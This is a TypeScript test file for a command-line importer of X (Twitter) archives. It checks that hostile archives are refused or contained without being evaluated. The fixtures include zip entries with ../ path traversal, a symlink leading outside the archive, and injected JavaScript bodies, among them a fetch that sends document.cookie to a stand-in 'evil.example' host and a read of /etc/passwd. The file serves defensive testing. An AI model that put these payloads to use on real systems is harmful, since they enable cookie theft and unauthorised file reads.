// Hostile X archives: each is refused or contained with one clear line and a documented exit code (docs/cli.md),
// nothing is evaluated, nothing outside the archive is read, and no output is left behind when the archive is refused.
import { test, before } from 'node:test'
import assert from 'node:assert/strict'
import { cp, mkdtemp, readFile, stat, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { run as importX } from '../../src/commands/import-x-archive.js'
import { ArchiveReader } from '../../src/archive/reader.js'
import { assignedArrayItems, readAssignedValue } from '../../src/adapters/x/js-data.js'
import { runCommand } from '../_util/cli.js'
import { dataFile, ERAS, zipOf } from './_archives.js'

let dir: string
let n = 0

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'lifeboat-x-hostile-'))
})

async function importIt(source: string) {
  const output = join(dir, `out-${n++}.zip`)
  const run = await runCommand({}, (cli) => importX(source, { output }, cli))
  assert.equal(run.stderr.includes('    at '), false, 'no stack trace')
  assert.equal(/[\x00-\x08\x0b-\x1f\x7f]/.test(run.stderr), false, 'no raw control characters')
  const written = await stat(output).then(() => true, () => false)
  return { ...run, output, written, errorLine: run.stderr.split('\n').find((l) => l.startsWith('error: ')) }
}

/** A copy of the small 2022 archive to spoil. */
async function copyOfArchive(): Promise<string> {
  const folder = join(dir, `archive-${n++}`)
  await cp(ERAS.tweetsJs2022, folder, { recursive: true })
  return folder
}

test('a zip with ../ names is refused whole: exit 12, nothing written', async () => {
  const zip = join(dir, 'dotdot.zip')
  await writeFile(zip, await zipOf(ERAS.tweetsJs2022, { extra: [{ name: '../../evil.js', data: Buffer.from('window.x = 1') }] }))
  const run = await importIt(zip)
  assert.equal(run.code, 12)
  assert.equal(run.errorLine, `error: ${zip} holds a member that escapes the archive: "../../evil.js" (has a .. segment).`)
  assert.equal(run.written, false)
})

test('a media file named to escape the media folder is refused: in a zip, as a link in a folder, or as a tweet\'s URL', async () => {
  const zip = join(dir, 'media-escape.zip')
  await writeFile(zip, await zipOf(ERAS.tweetsJs2022, { extra: [{ name: 'data/tweets_media/../../../home/1-secret.jpg', data: Buffer.from('x') }] }))
  const zipped = await importIt(zip)
  assert.equal(zipped.code, 12)
  assert.match(zipped.errorLine!, /escapes the archive: "data\/tweets_media\/\.\.\/\.\.\/\.\.\/home\/1-secret\.jpg" \(has a \.\. segment\)\.$/)
  assert.equal(zipped.written, false)

  const folder = await copyOfArchive()
  const outside = join(dir, 'secret.txt')
  await writeFile(outside, 'not for the archive')
  await symlink(outside, join(folder, 'data/tweets_media/1571521051921629184-secret.jpg'))
  const linked = await importIt(folder)
  assert.equal(linked.code, 12)
  assert.match(linked.errorLine!, /escapes the archive: "data\/tweets_media\/1571521051921629184-secret\.jpg" \(a link to outside the folder\)\.$/)
  assert.equal(linked.written, false)

  // A tweet whose media URL is built to climb out finds nothing: names are only looked up in the archive's listing.
  const crafted = await copyOfArchive()
  const tweets = await dataFile(join(crafted, 'data/tweets.js'))
  const victim = tweets.find((t: any) => t.tweet.extended_entities)!.tweet
  victim.extended_entities.media = [{ ...victim.extended_entities.media[0], type: 'photo', media_url_https: 'https://pbs.twimg.com/media/../../../secret.txt' }]
  await writeFile(join(crafted, 'data/tweets.js'), `window.YTD.tweets.part0 = ${JSON.stringify(tweets)}`)
  await writeFile(join(crafted, 'data', 'secret.txt'), 'not media')
  const run = await importIt(crafted)
  assert.equal(run.code, 3)
  const reader = await ArchiveReader.open(run.output)
  assert.ok(reader.manifest.notes.some((note) => note.startsWith(`failed media ${victim.id_str} `) && note.endsWith('not in the archive')))
  const media = []
  for await (const m of reader.records('media')) media.push(m)
  assert.equal(media.some((m) => m.name === 'secret.txt'), false)
  reader.close()
})

test('a tweets.js that is not JavaScript data is refused (never evaluated): exit 12, one line', async () => {
  for (const [body, why] of [
    ['window.YTD.tweets.part0 = alert(require("fs").readFileSync("/etc/passwd"))', 'what follows `=` is not a JSON array'],
    ['fetch("https://evil.example/" + document.cookie); window.YTD.tweets.part0 = [ ]', 'it does not start with `name =`'],
    ['window.YTD.tweets.part0 = [ ]; fetch("https://evil.example/")', 'something other than data follows its JSON'],
    ['window.YTD.tweets.part0 = [ { "tweet" : { "id_str" : "1" } }, 42 ]', 'item 1 is not a JSON object'],
    ['window.YTD.tweets.part0 = [ { "tweet" : { "id_str" : "1" } ', 'it ends before its JSON array does'],
    ['\x1b[2J\x00binary', 'it has no `=`'],
  ] as const) {
    const folder = await copyOfArchive()
    await writeFile(join(folder, 'data/tweets.js'), body)
    const run = await importIt(folder)
    assert.equal(run.code, 12, body)
    assert.equal(run.errorLine, `error: data/tweets.js is not X archive data: ${why}.`)
    assert.equal(run.written, false)
  }
})

test('a 10 MB single tweet is skipped unbuffered and reported; the other tweets are imported (exit 3)', async () => {
  const folder = await copyOfArchive()
  const tweets = await dataFile(join(folder, 'data/tweets.js'))
  const huge = { tweet: { ...tweets[5].tweet, id_str: '1600000000000000000', full_text: 'A'.repeat(10 * 1024 * 1024) } }
  const text = `window.YTD.tweets.part0 = [\n${[...tweets.slice(0, 5), huge, ...tweets.slice(5)].map((t) => JSON.stringify(t, null, 2)).join(',\n')}\n]`
  await writeFile(join(folder, 'data/tweets.js'), text)
  const run = await importIt(folder)
  assert.equal(run.code, 3)
  const reader = await ArchiveReader.open(run.output)
  assert.equal(reader.manifest.counts.posts, 300)
  assert.ok(reader.manifest.notes.some((note) => /^failed posts data\/tweets\.js item 5: \d+ bytes, larger than any tweet \(1048576\); left out$/.test(note)))
  reader.close()
})

test('the data scanner reads every layout X has written, in any chunking, and bounds items', async () => {
  const layouts = [
    'window.YTD.like.part0 = [ {\n  "like" : { "tweetId" : "1" }\n}, {\n  "like" : { "tweetId" : "2", "fullText" : "a ] } [ { \\" b" }\n} ]',
    'window.YTD.like.part0 = [\n  {\n    "like" : { "tweetId" : "1" }\n  },\n  {\n    "like" : { "tweetId" : "2", "fullText" : "a ] } [ { \\" b" }\n  }\n]',
    'Grailbird.data.likes_2014_05 = \n[ {\n  "like" : { "tweetId" : "1" }\n}, {\n  "like" : { "tweetId" : "2", "fullText" : "a ] } [ { \\" b" }\n} ];\n',
  ]
  for (const layout of layouts) {
    const bytes = Buffer.from(layout)
    for (const size of [1, 3, 7, bytes.length]) {
      const chunks = Array.from({ length: Math.ceil(bytes.length / size) }, (_, i) => bytes.subarray(i * size, (i + 1) * size))
      const items = []
      for await (const item of assignedArrayItems<any>((async function* () { yield* chunks })(), 'like.js', 1024)) items.push(item)
      assert.deepEqual(items, [{ index: 0, value: { like: { tweetId: '1' } } }, { index: 1, value: { like: { tweetId: '2', fullText: 'a ] } [ { " b' } } }])
    }
  }
  for (const empty of ['window.YTD.mute.part0 = [ ]', 'window.YTD.mute.part0 = []']) {
    const items = []
    for await (const item of assignedArrayItems([Buffer.from(empty)] as unknown as AsyncIterable<Uint8Array>, 'mute.js', 1024)) items.push(item)
    assert.deepEqual(items, [])
  }
  const big = Buffer.from(`window.YTD.x.part0 = [ { "a" : "${'b'.repeat(5000)}" }, { "a" : "c" } ]`)
  const items = []
  for await (const item of assignedArrayItems([big.subarray(0, 100), big.subarray(100, 3000), big.subarray(3000)] as unknown as AsyncIterable<Uint8Array>, 'x.js', 1000)) items.push(item)
  assert.deepEqual(items, [{ index: 0, oversized: 5012 }, { index: 1, value: { a: 'c' } }])
  const details = await readAssignedValue<any>([Buffer.from('var user_details =  {\n  "screen_name" : "hotoo"\n}')] as unknown as AsyncIterable<Uint8Array>, 'user_details.js', 1024)
  assert.equal(details.screen_name, 'hotoo')
  assert.ok((await readFile(join(ERAS.grailbird, 'data/js/user_details.js'), 'utf8')).startsWith('var user_details =  {'))
})

test('a missing path is exit 10; a file or folder that is not an X archive is exit 12', async () => {
  const missing = await importIt(join(dir, 'nowhere.zip'))
  assert.equal(missing.code, 10)
  assert.equal(missing.errorLine, `error: ${join(dir, 'nowhere.zip')} does not exist.`)
  const notZip = join(dir, 'notes.txt')
  await writeFile(notZip, 'just text')
  assert.deepEqual([(await importIt(notZip)).code, (await importIt(notZip)).errorLine], [12, `error: ${notZip} is not an X archive: it is neither a zip file nor a folder.`])
  const wrongFolder = await importIt('docs')
  assert.deepEqual([wrongFolder.code, wrongFolder.errorLine], [12, 'error: docs is not an X archive: it has no data/ folder.'])
})
